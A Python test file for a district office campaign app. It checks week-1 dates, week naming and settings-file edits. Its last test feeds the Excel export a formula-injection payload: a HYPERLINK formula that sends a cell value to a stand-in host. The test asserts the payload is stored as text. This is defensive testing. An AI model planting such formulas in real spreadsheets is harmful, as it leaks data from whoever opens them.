"""The office settings file written from the import check step: week 1 set from the data."""
from datetime import date
from types import SimpleNamespace

from campaign import config
from campaign.ingest import view


def test_week_one_is_set_to_the_monday_of_the_earliest_finding_keeping_the_file(tmp_path):
    office = tmp_path / "office.yaml"
    office.write_text("# 本办设置\ndistrict: 临江区\ncampaign_start: 2025-11-24  # 第1周\ntarget_total: 90\n",
                      encoding="utf-8")
    res = SimpleNamespace(outside_calendar={"before": 24, "after": 0, "first": "2025-03-12", "last": "2025-03-14"})
    monday = view.first_week_from_data(res)
    assert monday == date(2025, 3, 10)  # Wed 03-12 is in the week starting Mon 03-10
    assert config.set_campaign_start(monday, office) == date(2025, 3, 10)
    text = office.read_text(encoding="utf-8")
    assert text.startswith("# 本办设置\ndistrict: 临江区\n") and "target_total: 90" in text
    assert config.load_office(office).campaign_start == date(2025, 3, 10)
    assert config.set_campaign_start(date(2025, 3, 13), office) == date(2025, 3, 10)


def test_no_button_when_every_finding_is_inside_the_calendar():
    assert view.first_week_from_data(SimpleNamespace(outside_calendar={"before": 0, "first": "2026-01-05"})) is None
    assert view.first_week_from_data(SimpleNamespace(outside_calendar={})) is None


def test_a_week_before_week_one_is_named_by_its_dates():
    from campaign.model.weeks import week_of

    start = date(2025, 11, 24)
    assert week_of(date(2025, 12, 3), start).name == "第2周"
    old = week_of(date(2025, 3, 12), start)
    assert old.number < 1 and old.name == "2025.03.10–03.16（第1周前）" and "-" not in old.label.split("（")[0][:2]


def test_page_downloads_store_formula_like_text_as_text():
    """Every page's 下载 Excel: a description starting with = (from an uploaded file) is text, not a formula."""
    import io
    import zipfile

    import pandas as pd

    from campaign.app.ui import excel_bytes

    data = excel_bytes(pd.DataFrame({"问题描述": ['=HYPERLINK("http://example.invalid/?x="&A1,"点此查看详情")',
                                              "+1", "-2", "@SUM(A1)"]}))
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
